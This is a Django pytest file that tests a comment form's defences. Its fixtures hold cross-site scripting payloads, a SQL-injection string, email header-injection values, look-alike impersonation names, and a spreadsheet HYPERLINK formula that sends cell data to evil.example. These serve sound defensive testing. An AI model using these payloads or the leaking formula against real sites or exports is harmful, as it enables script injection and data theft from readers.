"""What attackers type into the reply form, and what they send around it.

Each piece of hostile input is refused with a message a reader understands and nothing stored,
or stored exactly as typed and shown as text wherever it appears: on the article, in threads,
in the moderators' admin, in emails, feeds and downloads.
"""

import csv
import io
import json
import urllib.parse
import xml.etree.ElementTree as ET

import pytest
from django.contrib.auth.models import User
from django.urls import reverse

from articles.rendering import render_article_markdown
from comments.models import Comment, Report, Strategy
from tests.actions import edit, post_reply
from tests.factories import form_stamp
from tests.pages import read_markup, refusal, visible_text, what_would_run

pytestmark = pytest.mark.django_db


# ---------------------------------------------------------------------------------------------
# Names

STAFF_FIRST, STAFF_LAST = "María", "López"


@pytest.fixture
def staff_member(db) -> User:
    return User.objects.create_user(
        "mlopez",
        "mlopez@example.com",
        "a-long-password-1",
        first_name=STAFF_FIRST,
        last_name=STAFF_LAST,
        is_staff=True,
    )


INVISIBLE = "Your name contains invisible or control characters"
RESERVED = "could be mistaken for the site"

REFUSED_NAMES = [
    ("bell", "Ana\x07Torres", INVISIBLE),
    ("escape sequence", "\x1b[31mAna Torres", INVISIBLE),
    ("right-to-left override", "Ana \u202eserroT", INVISIBLE),
    ("left-to-right embedding", "\u202aAna Torres\u202c", INVISIBLE),
    ("directional isolate", "\u2067Ana\u2069 Torres", INVISIBLE),
    ("right-to-left mark", "Ana\u200f Torres", INVISIBLE),
    ("zero-width space", "Mod\u200berator", INVISIBLE),
    ("zero-width joiner", "Ana\u200dTorres", INVISIBLE),
    ("zero-width no-break space", "\ufeffAna Torres", INVISIBLE),
    ("soft hyphen", "Ad\u00admin", INVISIBLE),
    ("word joiner", "Ana\u2060Torres", INVISIBLE),
    ("Hangul filler, which draws nothing", "\u3164", INVISIBLE),
    ("Braille blank", "\u2800\u2800", INVISIBLE),
    ("Hangul choseong and jungseong fillers", "Ana\u115f\u1160", INVISIBLE),
    ("halfwidth Hangul filler", "\uffa0Ana", INVISIBLE),
    ("Khitan filler", "Ana\U00016fe4", INVISIBLE),
    ("combining grapheme joiner", "Ana\u034fTorres", INVISIBLE),
    ("Mongolian vowel separator", "Ana\u180eTorres", INVISIBLE),
    ("private-use character", "Ana \ue000", INVISIBLE),
    ("C1 control", "Ana\x85\x9bTorres", INVISIBLE),
    ("only spaces of every kind", " \u00a0\u2003\u3000\t ", "Please tell us the name"),
    ("no letter at all", "... --- ...", "at least one letter or digit"),
    ("null character", "Ana\x00Torres", "invisible null character"),
    ("text that arrived as invalid UTF-8", "Ana \ufffd\ufffd", "could not be read"),
    ("longer than 80 characters", "A" * 81, "at most 80 characters"),
    # U+FB2C is one character sent, three once composed (NFC) as names are stored.
    ("longer than 80 characters once composed", "\ufb2c" * 27, "at most 80 characters (it has 81)"),
    ("moderator", "Moderator", RESERVED),
    ("moderador, in Spanish", "MODERADOR", RESERVED),
    ("admin", "admin", RESERVED),
    ("administrator", "Administrator", RESERVED),
    ("the site's name", "Sovereignty Forum", RESERVED),
    ("the site's name run together", "sovereigntyforum", RESERVED),
    ("editor", "Editor", RESERVED),
    ("editorial", "Editorial", RESERVED),
    ("full-width letters", "Ｍｏｄｅｒａｔｏｒ", RESERVED),
    ("Cyrillic o", "M\u043ederator", RESERVED),
    ("Cyrillic a, e, o, r", "\u0410dministr\u0430t\u043er", RESERVED),
    ("Greek capitals", "\u0391D\u039c\u0399\u039d", RESERVED),
    ("Cyrillic capitals", "\u041c\u041eD\u0415R\u0410\u0422\u041eR", RESERVED),
    ("mathematical bold letters", "\U0001d41a\U0001d41d\U0001d426\U0001d422\U0001d427", RESERVED),
    ("accents", "Édítór", RESERVED),
    ("digits for letters", "m0d3rat0r", RESERVED),
    ("1 for i", "Adm1n", RESERVED),
    ("l for I", "ADMlN", RESERVED),
    ("rn for m", "Adrnin", RESERVED),
    ("spaced out", "M o d e r a t o r", RESERVED),
    ("dotted", "a.d.m.i.n", RESERVED),
    ("as a title after a name", "Ana Torres (moderator)", RESERVED),
    ("as a title before a name", "Editor Ana", RESERVED),
    ("a staff member's username", "mlopez", RESERVED),
    ("a staff member's full name", "Maria Lopez", RESERVED),
    ("a staff member's full name with look-alikes", "M\u0430ri\u0430 L\u00d3PEZ", RESERVED),
]


@pytest.mark.parametrize(
    ("name", "message"),
    [case[1:] for case in REFUSED_NAMES],
    ids=[case[0] for case in REFUSED_NAMES],
)
def test_a_hostile_name_is_refused_with_a_message_and_nothing_is_stored(
    client, article, valid_reply, staff_member, name, message
):
    response = post_reply(client, article, {**valid_reply, "author_name": name})

    assert message in refusal(response, "author_name")
    assert message in response.content.decode()
    assert not Comment.objects.exists()


def test_a_new_staff_account_counts_from_the_very_next_post(
    client, article, valid_reply, django_capture_on_commit_callbacks
):
    post_reply(client, article, valid_reply)  # the staff's names are now in the cache
    with django_capture_on_commit_callbacks(execute=True):
        User.objects.create_user("jramos", first_name="Julia", last_name="Ramos", is_staff=True)

    response = post_reply(
        client, article, {**valid_reply, "author_name": "Julia Ramos", "body": "Another reply."}
    )

    assert RESERVED in refusal(response, "author_name")
    assert Comment.objects.count() == 1


ACCEPTED_NAMES = [
    ("plain", "Ana Torres", "Ana Torres"),
    ("accents and ñ", "José Ñúñez", "José Ñúñez"),
    ("decomposed accents, stored composed", "Jose\u0301", "José"),
    ("80 letters sent as 160 characters, 80 once composed", "e\u0301" * 80, "é" * 80),
    ("apostrophe and hyphen", "Seán O'Brien-Smith", "Seán O'Brien-Smith"),
    ("another script", "李小龙", "李小龙"),
    ("Cyrillic name", "Мария Иванова", "Мария Иванова"),
    ("a word that contains a reserved one", "Badminton Fan", "Badminton Fan"),
    ("a name that starts like one", "Editha Moderna", "Editha Moderna"),
    ("tabs and line breaks, collapsed", "Ana\t\r\nTorres", "Ana Torres"),
    ("odd spaces, collapsed", "Ana\u00a0\u2003Torres", "Ana Torres"),
    ("a staff member's first name with another surname", "María Torres", "María Torres"),
    ("an emoji with its presentation selector", "Ana \u2764\ufe0f", "Ana \u2764\ufe0f"),
]


@pytest.mark.parametrize(
    ("name", "stored"),
    [case[1:] for case in ACCEPTED_NAMES],
    ids=[case[0] for case in ACCEPTED_NAMES],
)
def test_an_ordinary_name_is_accepted_as_typed(
    client, article, valid_reply, staff_member, name, stored
):
    post_reply(client, article, {**valid_reply, "author_name": name})

    assert Comment.objects.get().author_name == stored


# ---------------------------------------------------------------------------------------------
# Email addresses

NOT_VALID = "Please enter a valid email address"

REFUSED_EMAILS = [
    ("a header injected after a line break", "ana@example.com\r\nBcc: all@example.org", "line"),
    ("a bare line feed", "ana@example.com\nCc: all@example.org", "single line"),
    ("a trailing line break", "ana@example.com\r\n", "single line"),
    ("longer than 254 characters", "a" * 60 + "@" + "b" * 190 + ".com", "at most 254"),
    ("a part before the @ over 64 characters", "a" * 65 + "@example.com", "at most 64"),
    ("a Kelvin sign that lower-cases to k", "\u212aarla@example.com", NOT_VALID),
    ("a long s that folds to s", "\u017fam@example.com", NOT_VALID),
    ("a dotless i", "\u0131nes@example.com", NOT_VALID),
    ("a dotted capital I", "\u0130nes@example.com", NOT_VALID),
    ("a quoted part hiding a control character", '"ana\x01"@example.com', NOT_VALID),
    ("a zero-width space in the domain", "ana@exam\u200bple.com", NOT_VALID),
    ("a right-to-left override in the domain", "ana@\u202eexample.com", NOT_VALID),
    ("a space inside", "ana torres@example.com", NOT_VALID),
    ("two at signs", "ana@torres@example.com", NOT_VALID),
    ("a null character", "ana\x00@example.com", "invisible null character"),
]


@pytest.mark.parametrize(
    ("email", "message"),
    [case[1:] for case in REFUSED_EMAILS],
    ids=[case[0] for case in REFUSED_EMAILS],
)
def test_a_hostile_email_address_is_refused_with_a_message_and_nothing_is_stored(
    client, article, valid_reply, email, message
):
    response = post_reply(client, article, {**valid_reply, "author_email": email})

    assert message in refusal(response, "author_email")
    assert not Comment.objects.exists()


@pytest.mark.parametrize(
    ("email", "stored"),
    [
        ("Ana.Torres@Example.COM", "ana.torres@example.com"),
        ("ana+forum@example.com", "ana+forum@example.com"),
        ("  ana@example.com  ", "ana@example.com"),
        ("ana@ＥＸＡＭＰＬＥ.com", "ana@example.com"),
        ("ana@correo.méxico.mx", "ana@correo.xn--mxico-bsa.mx"),
    ],
    ids=["case", "plus", "surrounding spaces", "full-width domain", "international domain"],
)
def test_an_email_address_is_stored_as_the_mail_server_reads_it(
    client, article, valid_reply, email, stored
):
    post_reply(client, article, {**valid_reply, "author_email": email})

    assert Comment.objects.get().author_email == stored


# ---------------------------------------------------------------------------------------------
# Bodies and requests


def test_a_null_character_in_a_reply_is_refused_with_a_message(client, article, valid_reply):
    response = post_reply(client, article, {**valid_reply, "body": "Trade\x00 and intelligence."})

    assert "invisible null character" in refusal(response, "body")
    assert not Comment.objects.exists()


def test_a_reply_sent_as_invalid_utf8_is_refused_with_a_message_not_an_error(client, article):
    raw = b"author_name=Ana&author_email=ana%40example.com&body=Caf%E9+con+%FF%FE+leche&stamp="
    raw += urllib.parse.quote(form_stamp()).encode()

    response = post_reply(client, article, raw, content_type="application/x-www-form-urlencoded")

    assert response.status_code == 200
    assert "could not be read" in response.content.decode()
    assert not Comment.objects.exists()


EMPTY = "Please write your reply before posting."

# Replies that show a reader nothing: each is refused as an empty one.
INVISIBLE_BODIES = [
    ("zero-width spaces", "\u200b" * 40),
    ("word joiners", "\u2060\u2060"),
    ("byte-order marks", "\ufeff\ufeff"),
    ("Braille blanks", "\u2800" * 12),
    ("Hangul fillers", "\u3164\u115f\u1160\uffa0"),
    ("a right-to-left override", "\u202e"),
    ("bidirectional embeddings and isolates", "\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069"),
    ("direction marks", "\u200e\u200f\u061c"),
    ("the Mongolian vowel separator", "\u180e"),
    ("the combining grapheme joiner", "\u034f"),
    ("variation selectors", "\ufe0f\ufe0e\U000e0100"),
    ("soft hyphens", "\u00ad\u00ad"),
    ("tag characters", "\U000e0041\U000e0042"),
    ("accents with no letter", "\u0301\u0308"),
    ("a mix, with spaces and line breaks", "\u200b \u2800\n\u3164\u3000\u202e\r\n\ufe0f"),
]


@pytest.mark.parametrize(
    "body", [case[1] for case in INVISIBLE_BODIES], ids=[case[0] for case in INVISIBLE_BODIES]
)
def test_a_reply_of_invisible_characters_is_refused_as_empty(client, article, valid_reply, body):
    response = post_reply(client, article, {**valid_reply, "body": body})

    assert EMPTY in refusal(response, "body")
    assert not Comment.objects.exists()


def test_a_reply_with_something_to_read_among_invisible_characters_is_accepted(
    client, article, valid_reply
):
    post_reply(client, article, {**valid_reply, "body": "\u200b\u2800 Sí \u3164"})

    assert Comment.objects.get().body == "\u200b\u2800 Sí \u3164"


@pytest.mark.parametrize(
    "body",
    [case[1] for case in INVISIBLE_BODIES[:5]],
    ids=[case[0] for case in INVISIBLE_BODIES[:5]],
)
def test_an_edit_of_invisible_characters_is_refused_as_empty(client, article, valid_reply, body):
    post_reply(client, article, valid_reply)
    comment = Comment.objects.get()

    response = edit(client, comment, body)

    assert "Please write your reply before saving." in refusal(response, "body")
    comment.refresh_from_db()
    assert (comment.body, comment.pending_body) == (valid_reply["body"], "")


def test_the_length_limit_counts_the_reply_as_stored_after_composing(
    client, article, valid_reply, settings
):
    settings.COMMENTS_MAX_LENGTH = 5000
    # U+FB2C is one character sent, three once composed (NFC) as it is stored.
    response = post_reply(client, article, {**valid_reply, "body": "\ufb2c" * 5000})

    assert "Your reply is 15000 characters long; the limit is 5000" in response.content.decode()
    assert not Comment.objects.exists()


def test_a_reply_within_the_limit_once_composed_is_accepted(client, article, valid_reply, settings):
    settings.COMMENTS_MAX_LENGTH = 100
    # 200 characters sent (e and a combining accent), 100 once composed.
    post_reply(client, article, {**valid_reply, "body": "e\u0301" * 100})

    assert Comment.objects.get().body == "é" * 100


def test_an_edit_over_the_limit_once_composed_is_refused(client, article, valid_reply, settings):
    settings.COMMENTS_MAX_LENGTH = 100
    post_reply(client, article, valid_reply)
    comment = Comment.objects.get()

    response = edit(client, comment, "\ufb2c" * 40)

    assert "Your reply is 120 characters long; the limit is 100" in refusal(response, "body")
    comment.refresh_from_db()
    assert comment.body == valid_reply["body"]


def test_a_reply_over_the_limit_in_accented_letters_is_counted_in_characters(
    client, article, valid_reply, settings
):
    settings.COMMENTS_MAX_LENGTH = 100

    response = post_reply(client, article, {**valid_reply, "body": "ñ" * 101})

    assert "Your reply is 101 characters long; the limit is 100" in response.content.decode()
    assert not Comment.objects.exists()


def test_a_request_larger_than_the_site_accepts_gets_a_clear_400_page(
    client, article, valid_reply, settings
):
    too_much = "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)

    response = post_reply(client, article, {**valid_reply, "body": too_much})

    assert response.status_code == 400
    assert "This request could not be understood" in response.content.decode()
    assert not Comment.objects.exists()


def test_a_request_carrying_a_file_is_refused_before_the_file_is_kept(client, article, valid_reply):
    upload = io.BytesIO(b"MZ" + b"\0" * 1024)
    upload.name = "invoice.exe"

    response = post_reply(client, article, {**valid_reply, "attachment": upload})

    assert response.status_code == 400
    assert not Comment.objects.exists()


TAMPERED_FIELDS = [
    ("parent that is not a number", {"parent": "1; DROP TABLE comments_comment"}, "could not be"),
    ("parent in scientific notation", {"parent": "1e3"}, "could not be found"),
    ("parent beyond any id", {"parent": "9" * 30}, "not published in this discussion"),
    ("negative parent", {"parent": "-1"}, "not published in this discussion"),
    ("language that does not exist", {"language": "<script>alert(1)</script>"}, "valid choice"),
    ("sovereignty mode that does not exist", {"sovereignty_mode": "annexation"}, "valid choice"),
    ("strategy that is not a number", {"strategies": ["one"]}, "valid value"),
]


@pytest.mark.parametrize(
    ("change", "message"),
    [case[1:] for case in TAMPERED_FIELDS],
    ids=[case[0] for case in TAMPERED_FIELDS],
)
def test_a_tampered_field_is_refused_with_a_message_and_nothing_is_stored(
    client, article, valid_reply, change, message
):
    response = post_reply(client, article, {**valid_reply, **change})

    assert response.status_code == 200
    errors = " ".join(" ".join(e) for e in response.context["form"].errors.values())
    assert message in errors
    assert not Comment.objects.exists()


# ---------------------------------------------------------------------------------------------
# Cross-site scripting: everything a reader types is shown as text, wherever it appears.

NAME = '"><img src=x onerror=alert(1)><script>alert(1)</script>'
EMAIL = "x'/onmouseover='alert`1`'@example.com"
BODY_LINES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full report")',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "'><body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href=" jav&#x09;ascript:alert(1)">tabbed</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '[a link](javascript:alert(1)) and ![an image](x" onerror="alert(1))',
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "{{ request.META }} {% debug %} ${7*7}",
]
BODY = "\n\n".join(BODY_LINES)
REPORT_TEXT = "<script>alert('report')</script><img src=x onerror=alert(1)>"


@pytest.fixture
def hostile(client, article, moderator, django_capture_on_commit_callbacks):
    """A proposal full of hostile text, posted through the form, published, and reported."""
    strategy = Strategy.objects.first()
    with django_capture_on_commit_callbacks(execute=True):
        response = post_reply(
            client,
            article,
            {
                "author_name": NAME,
                "author_email": EMAIL,
                "body": BODY,
                "strategies": [strategy.pk],
                "notify_replies": "on",
                "stamp": form_stamp(),
            },
        )
    assert response.status_code == 302, response.context["form"].errors
    comment = Comment.objects.get()
    comment.approve(by=moderator)
    Report.objects.create(
        comment=comment, reason=Report.Reason.OTHER, text=REPORT_TEXT, reader_key="r" * 64
    )
    return comment


def test_hostile_text_is_stored_exactly_as_typed(hostile):
    stored = Comment.objects.get()

    assert (stored.author_name, stored.author_email, stored.body) == (NAME, EMAIL, BODY)


def assert_shown_as_text(html: str, *texts: str) -> None:
    assert what_would_run(html) == []
    shown = visible_text(html)
    for text in texts:
        for line in text.split("\n\n"):
            assert line in shown, line


def test_the_article_page_shows_hostile_text_as_text(client, article, hostile):
    client.cookies.clear()

    page = client.get(article.get_absolute_url())

    assert_shown_as_text(page.content.decode(), NAME, BODY)


def test_the_thread_page_shows_hostile_text_as_text(client, hostile):
    client.cookies.clear()

    page = client.get(reverse("comments:thread", kwargs={"pk": hostile.pk}))

    assert_shown_as_text(page.content.decode(), NAME, BODY)


def test_the_reply_page_shows_hostile_text_as_text(client, hostile):
    page = client.get(reverse("comments:reply", kwargs={"pk": hostile.pk}))

    assert_shown_as_text(page.content.decode(), NAME, BODY)


def test_a_reply_sent_in_place_shows_hostile_text_as_text(client, article, hostile):
    response = post_reply(
        client,
        article,
        {
            "author_name": NAME,
            "author_email": "luis@example.com",
            "body": BODY,
            "parent": hostile.pk,
            "stamp": form_stamp(),
        },
        headers={"HX-Request": "true"},
    )

    assert_shown_as_text(response.content.decode(), NAME, BODY)


def test_the_strategies_board_shows_hostile_text_as_text(client, article, hostile):
    page = client.get(reverse("board:board", kwargs={"slug": article.slug}))

    assert_shown_as_text(page.content.decode(), NAME)


def test_a_form_sent_back_with_errors_shows_hostile_text_as_text(client, article):
    response = post_reply(
        client,
        article,
        {
            "author_name": NAME,
            "author_email": "not an address <script>alert(1)</script>",
            "body": BODY,
            "language": "<script>alert(1)</script>",
            "stamp": form_stamp(),
        },
    )

    html = response.content.decode()
    assert what_would_run(html) == []
    assert "</textarea><script>" not in html


def test_a_closed_discussion_gives_back_hostile_text_as_text(client, article):
    article.discussion_open = False
    article.save()

    response = post_reply(
        client,
        article,
        {
            "author_name": "Ana",
            "author_email": "ana@example.com",
            "body": BODY,
            "stamp": form_stamp(),
        },
    )

    assert_shown_as_text(response.content.decode(), BODY)


def test_the_rate_limit_page_gives_back_hostile_text_as_text(client, article, settings):
    settings.RATE_LIMITS = {"post": {"ip": (1, 600)}}
    data = {
        "author_name": "Ana",
        "author_email": "ana@example.com",
        "body": BODY,
        "stamp": form_stamp(),
    }
    post_reply(client, article, data)

    response = post_reply(client, article, {**data, "body": BODY + "\n\nAgain."})

    assert response.status_code == 429
    assert what_would_run(response.content.decode()) == []


def test_the_edit_page_shows_hostile_text_as_text(client, article, hostile):
    page = client.get(reverse("comments:edit", kwargs={"pk": hostile.pk}))

    assert page.status_code == 200
    assert_shown_as_text(page.content.decode(), BODY)


def test_the_moderation_queue_shows_hostile_text_as_text(moderator_client, hostile):
    page = moderator_client.get(reverse("admin:comments_comment_changelist"))

    assert_shown_as_text(page.content.decode(), NAME, EMAIL)


def test_the_admin_page_of_a_comment_shows_hostile_text_as_text(moderator_client, hostile):
    page = moderator_client.get(reverse("admin:comments_comment_change", args=[hostile.pk]))

    assert_shown_as_text(page.content.decode(), NAME, EMAIL, BODY, REPORT_TEXT)


def test_the_admin_list_of_reports_shows_hostile_text_as_text(superuser_client, hostile):
    page = superuser_client.get(reverse("admin:comments_report_changelist"))

    assert page.status_code == 200
    assert_shown_as_text(page.content.decode(), REPORT_TEXT)


def test_the_atom_feed_gives_hostile_text_as_text(client, article, hostile):
    feed = client.get(reverse("board:feed", kwargs={"slug": article.slug}))

    atom = "{http://www.w3.org/2005/Atom}"
    entry = ET.fromstring(feed.content).find(f"{atom}entry")  # noqa: S314 - our own feed
    title, summary = entry.find(f"{atom}title"), entry.find(f"{atom}summary")
    assert title.get("type", "text") == "text"
    assert entry.find(f"{atom}author/{atom}name").text == NAME
    # Feed readers draw the summary as HTML: it must be the escaped text.
    assert summary.get("type") == "html"
    assert_shown_as_text(summary.text, BODY)


def test_emails_about_hostile_text_are_plain_text_without_added_headers(
    client, article, hostile, mailoutbox, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        post_reply(
            client,
            article,
            {
                "author_name": "Luis\r\nBcc: everyone@example.org",
                "author_email": "luis@example.com",
                "body": BODY,
                "parent": hostile.pk,
                "stamp": form_stamp(),
            },
        )
        Comment.objects.get(author_email="luis@example.com").approve(
            by=User.objects.get(username="moderator")
        )

    assert len(mailoutbox) >= 3  # moderators told twice, the hostile author told of a reply
    for message in mailoutbox:
        assert message.content_subtype == "plain"
        assert not getattr(message, "alternatives", [])
        assert "\n" not in message.subject and "\r" not in message.subject
        assert not message.bcc and not message.cc
        assert "Bcc" not in message.message()


def test_the_proposals_spreadsheet_keeps_hostile_text_from_running_as_a_formula(
    client, article, hostile
):
    download = client.get(
        reverse("board:proposals-download", kwargs={"slug": article.slug, "extension": "csv"})
    )

    rows = list(csv.DictReader(io.StringIO(b"".join(download.streaming_content).decode())))
    assert rows[0]["text"] == "'" + BODY
    assert download["Content-Disposition"].startswith("attachment;")


def test_the_proposals_json_gives_hostile_text_as_data_never_as_a_page(client, article, hostile):
    download = client.get(
        reverse("board:proposals-download", kwargs={"slug": article.slug, "extension": "json"})
    )

    assert download["Content-Type"] == "application/json"
    assert download["X-Content-Type-Options"] == "nosniff"
    assert json.loads(download.content)[0]["text"] == BODY


# ---------------------------------------------------------------------------------------------
# The article's Markdown: an allowlist sanitizer, and every link marked as untrusted.

MARKDOWN_ATTACKS = [
    ("raw script", "<script>alert(1)</script>"),
    ("script hidden in a paragraph", "Hello <script>alert(1)</script> world"),
    ("event handler on an image", "<img src=x onerror=alert(1)>"),
    ("event handler on an allowed tag", '<a href="https://example.org" onclick="alert(1)">x</a>'),
    ("event handler on svg", "<svg onload=alert(1)></svg>"),
    ("javascript link in HTML", '<a href="javascript:alert(1)">x</a>'),
    ("javascript link in Markdown", "[x](javascript:alert(1))"),
    ("javascript link in mixed case", "[x](JaVaScRiPt:alert(1))"),
    ("javascript link encoded as entities", "[x](&#106;avascript:alert(1))"),
    ("javascript link hex-encoded", '<a href="&#x6A;avascript:alert(1)">x</a>'),
    ("javascript link split by a tab", '<a href="java&#09;script:alert(1)">x</a>'),
    ("javascript link by reference", "[x][r]\n\n[r]: javascript:alert(1)"),
    ("javascript autolink", "<javascript:alert(1)>"),
    ("data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("data link in HTML", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("vbscript link", '<a href="vbscript:msgbox(1)">x</a>'),
    ("Markdown image with a script source", "![x](javascript:alert(1))"),
    ("Markdown image breaking out of its attribute", '![x](x" onerror="alert(1))'),
    ("image by reference", "![x][i]\n\n[i]: javascript:alert(1)"),
    ("image wrapped in a link", "[![x](https://example.org/a.png)](javascript:alert(1))"),
    ("iframe", '<iframe src="javascript:alert(1)"></iframe>'),
    ("object", '<object data="javascript:alert(1)"></object>'),
    ("style attribute", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style element", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("form", '<form action="javascript:alert(1)"><button>go</button></form>'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base", '<base href="javascript:alert(1)//">'),
    ("comment-hidden script", "<!--><script>alert(1)</script>-->"),
    ("unclosed tag", '<img src="x" onerror="alert(1)"'),
]


@pytest.mark.parametrize(
    "markdown", [case[1] for case in MARKDOWN_ATTACKS], ids=[case[0] for case in MARKDOWN_ATTACKS]
)
def test_the_article_markdown_keeps_nothing_that_would_run(markdown):
    html = render_article_markdown(markdown)

    assert what_would_run(html) == []
    assert not any(tag in html for tag in ("<img", "<iframe", "<object", "<style", "<form"))
    assert " style=" not in html


@pytest.mark.parametrize(
    "markdown",
    [
        "[the report](https://example.org/report)",
        "<https://example.org/report>",
        '<a href="https://example.org/report" rel="author" target="_blank">the report</a>',
        "[write to us](mailto:desk@example.org)",
    ],
    ids=["Markdown link", "autolink", "HTML link with its own rel", "mailto link"],
)
def test_every_link_in_the_article_is_marked_as_untrusted(markdown):
    (link,) = read_markup(render_article_markdown(markdown)).links

    assert link["rel"] == "nofollow ugc noopener"


def test_the_article_page_shows_its_markdown_sanitized(client, article):
    article.body = "\n\n".join(case[1] for case in MARKDOWN_ATTACKS)
    article.save()

    page = client.get(article.get_absolute_url())

    assert what_would_run(page.content.decode()) == []
